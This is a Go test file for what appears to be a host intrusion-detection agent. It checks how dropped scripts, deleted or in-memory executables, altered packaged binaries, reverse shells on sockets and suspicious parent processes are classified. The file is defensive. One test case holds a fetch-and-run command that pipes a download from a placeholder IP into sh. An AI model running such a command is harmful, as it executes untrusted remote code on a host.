package assess

import (
	"os"
	"path/filepath"
	"slices"
	"testing"

	"github.com/cordon-security/cordon/agent/observe"
	"github.com/cordon-security/cordon/agent/packages"
	"github.com/cordon-security/cordon/agent/procfs"
)

const python, bash = "/usr/bin/python3.13", "/usr/bin/bash"

func TestWordsThatAreNoScript(t *testing.T) {
	for name, words := range map[string][]string{
		"module with a file": {"-m", "fetcher", "config.yaml"},
		"module with a word": {"-m", "pip", "install", "config.yaml"},
		"cluster":            {"-Im", "http.server", "8000"},
	} {
		t.Run(name, func(t *testing.T) {
			r := newRecord(t)
			r.unpackaged("/srv/config.yaml")
			r.process(10, 1, python, words...)
			r.holds(10)
			r.want(NotConfirmed)
		})
	}
}

func TestScripts(t *testing.T) {
	for name, c := range map[string]struct {
		script  string
		prepare func(r *record)
		verdict Verdict
		file    string
	}{
		"dropped":  {"/tmp/x.py", func(r *record) { r.unpackaged("/tmp/x.py") }, Confirmed, "/tmp/x.py"},
		"packaged": {"/usr/bin/tool", func(r *record) { r.packaged("/usr/bin/tool") }, NotConfirmed, ""},
		"local":    {"/usr/local/bin/tool", func(r *record) { r.unpackaged("/usr/local/bin/tool") }, Unknown, ""},
		"absent":   {"/tmp/x.py", func(r *record) { r.absent("/tmp/x.py") }, Unknown, ""},
		"packaged by a link": {"/usr/bin/tool", func(r *record) {
			r.packaged("/usr/bin/real-tool")
			r.Traits["/usr/bin/tool"] = Trait{Target: "/usr/bin/real-tool", Standing: packages.Standing{State: packages.Unpackaged}}
		}, NotConfirmed, ""},
		"dropped, by a link": {"/usr/bin/tool", func(r *record) {
			r.unpackaged("/tmp/x.py")
			r.Traits["/usr/bin/tool"] = Trait{Target: "/tmp/x.py", Standing: packages.Standing{State: packages.Unverified}}
		}, Confirmed, "/tmp/x.py"},
	} {
		t.Run(name, func(t *testing.T) {
			r := newRecord(t)
			c.prepare(r)
			r.process(10, 1, python, c.script, "config.yaml")
			r.holds(10)
			if c.file == "" {
				r.want(c.verdict)
			} else {
				r.wantPIDs(r.want(c.verdict, c.file), 10)
			}
		})
	}
}

func TestRemovedScriptThatBashHolds(t *testing.T) {
	r := newRecord(t)
	r.absent("/tmp/x")
	p := r.process(10, 1, bash, "/tmp/x")
	p.ScriptFD = "/tmp/x (deleted)"
	r.Live[10] = p
	r.holds(10)
	r.want(Confirmed, "/tmp/x")
}

// Links of the host are followed within its root.
func TestTraitFollowsLinks(t *testing.T) {
	root := t.TempDir()
	for _, dir := range []string{"usr/bin", "etc/alternatives"} {
		if err := os.MkdirAll(filepath.Join(root, dir), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(filepath.Join(root, "usr/bin/real"), nil, 0o755); err != nil {
		t.Fatal(err)
	}
	for name, target := range map[string]string{"usr/bin/tool": "/etc/alternatives/tool", "etc/alternatives/tool": "../../usr/bin/real", "bin": "usr/bin"} {
		if err := os.Symlink(target, filepath.Join(root, name)); err != nil {
			t.Fatal(err)
		}
	}
	c := &Collector{Root: root, Packages: packages.New(root)}
	for path, want := range map[string]string{"/usr/bin/tool": "/usr/bin/real", "/bin/real": "/usr/bin/real", "/usr/bin/real": "", "/absent": ""} {
		if got := c.trait(path).Target; got != want {
			t.Errorf("%s leads to %q, want %q", path, got, want)
		}
	}
}

// A second name for a package's file makes the file's other users no suspects.
func TestHardLinkToPackagedFile(t *testing.T) {
	r := newRecord(t)
	r.unpackaged("/usr/share/.pl")
	link := r.Traits["/usr/share/.pl"]
	link.File = r.inode("/usr/bin/perl")
	r.Traits["/usr/share/.pl"] = link
	r.process(10, 1, "/usr/share/.pl", "-e", "1")
	r.process(11, 1, "/usr/bin/perl", "-e", "1")
	r.holds(10)
	r.wantPIDs(r.want(Confirmed, "/usr/share/.pl"), 10)
}

// The number of a removed inode is given to the next file.
func TestTakenFileIsKnownByItsPathAlone(t *testing.T) {
	e := Evidence{Files: []SuspectFile{
		{Path: "/tmp/a", File: procfs.FileID{Dev: 1, Ino: 2}, Taken: true}, {Path: "/tmp/b", File: procfs.FileID{Dev: 1, Ino: 3}},
	}}
	r := newRecord(t)
	r.Known = e.Known()
	r.absent("/tmp/a", "/tmp/b")
	r.unpackaged("/usr/local/bin/new", "/usr/local/bin/still")
	for pid, c := range map[int]struct {
		exe string
		ino uint64
	}{10: {"/usr/local/bin/new", 2}, 11: {"/usr/local/bin/still", 3}} {
		p := r.process(pid, 1, c.exe)
		p.ExeFile = procfs.FileID{Dev: 1, Ino: c.ino}
		r.Live[pid] = p
	}
	r.wantPIDs(r.decide(), 11)
}

func TestAncestors(t *testing.T) {
	for name, c := range map[string]struct {
		parent  string
		words   []string
		prepare func(r *record)
		joins   bool
	}{
		"editor's server":  {"/home/u/.vscode-server/node", nil, nil, false},
		"build runner":     {"/home/ci/runner", nil, nil, false},
		"test in /tmp":     {"/tmp/go-build/x.test", nil, nil, false},
		"beside it":        {"/tmp/x/loader", nil, nil, true},
		"the same file":    {"/tmp/x/job", nil, nil, true},
		"script elsewhere": {bash, []string{"/home/u/deploy.sh"}, func(r *record) { r.unpackaged("/home/u/deploy.sh") }, false},
		"script beside it": {bash, []string{"/tmp/x/run.sh"}, func(r *record) { r.unpackaged("/tmp/x/run.sh") }, true},
		"fetch and run":    {bash, []string{"-c", "curl -s http://192.0.2.1/x | sh"}, nil, true},
		"a person's shell": {bash, nil, nil, false},
		"changed packaged": {"/usr/sbin/cron", nil, func(r *record) {
			r.Traits["/usr/sbin/cron"] = Trait{There: true, File: r.inode("/usr/sbin/cron"), Standing: packages.Standing{State: packages.Changed}}
		}, true},
		"nameless": {"/memfd:x", nil, func(r *record) {
			r.absent("/memfd:x")
			p := r.Live[9]
			p.Memfd, p.ExeDeleted = true, true
			r.Live[9] = p
		}, true},
		"deleted": {"/opt/gone", nil, func(r *record) {
			r.absent("/opt/gone")
			p := r.Live[9]
			p.ExeDeleted = true
			r.Live[9] = p
		}, true},
		"starts it again": {"/home/u/keeper", nil, func(r *record) {
			ended := r.process(11, 9, "/tmp/x/job")
			delete(r.Live, 11)
			r.Ended = []observe.Process{ended}
			r.Known = Known{Files: []KnownFile{{Path: "/tmp/x/job"}}, Processes: []procfs.ID{ended.ID}}
		}, true},
	} {
		t.Run(name, func(t *testing.T) {
			r := newRecord(t)
			r.unpackaged("/tmp/x/job", c.parent)
			if c.parent == bash {
				r.packaged(bash)
			}
			r.process(9, 1, c.parent, c.words...)
			r.process(10, 9, "/tmp/x/job")
			r.holds(10)
			if c.prepare != nil {
				c.prepare(r)
			}
			joined := slices.ContainsFunc(r.decide().Live(), func(p procfs.Process) bool { return p.PID == 9 })
			if joined != c.joins {
				t.Errorf("the parent is in the tree: %v, want %v", joined, c.joins)
			}
		})
	}
}

func TestReverseShells(t *testing.T) {
	for name, c := range map[string]struct {
		exe     string
		words   []string
		input   bool
		verdict Verdict
	}{
		"interactive shell on the socket": {bash, []string{"-i"}, true, Confirmed},
		"plain shell on the socket":       {"/usr/bin/dash", nil, true, Confirmed},
		"python on the socket":            {python, []string{"-c", "x"}, true, Confirmed},
		"shell with another socket":       {bash, []string{"-i"}, false, NotConfirmed},
		"another program on the socket":   {"/usr/bin/sleep", nil, true, NotConfirmed},
	} {
		t.Run(name, func(t *testing.T) {
			r := newRecord(t)
			r.process(10, 1, c.exe, c.words...)
			r.holds(10)
			if c.input {
				r.Inputs = map[int]bool{10: true}
			}
			r.want(c.verdict)
		})
	}
}

func TestWhatAHolderWasBefore(t *testing.T) {
	r := newRecord(t)
	r.unpackaged("/tmp/x/job")
	was := r.process(10, 1, "/tmp/x/job")
	r.Ended = []observe.Process{was}
	r.process(10, 1, "/usr/bin/dash")
	r.holds(10)
	r.wantPIDs(r.want(Confirmed, "/tmp/x/job"), 10)
}

// Between fork and exec a process is what its parent is.
func TestInheritedProgramIsNotHeldAgainstAHolder(t *testing.T) {
	r := newRecord(t)
	r.unpackaged("/home/u/.editor/server")
	r.process(9, 1, "/home/u/.editor/server")
	was := r.process(10, 9, "/home/u/.editor/server")
	was.Inherited = true
	r.Ended = []observe.Process{was}
	r.process(10, 9, "/usr/bin/sleep")
	r.holds(10)
	r.want(NotConfirmed)
}
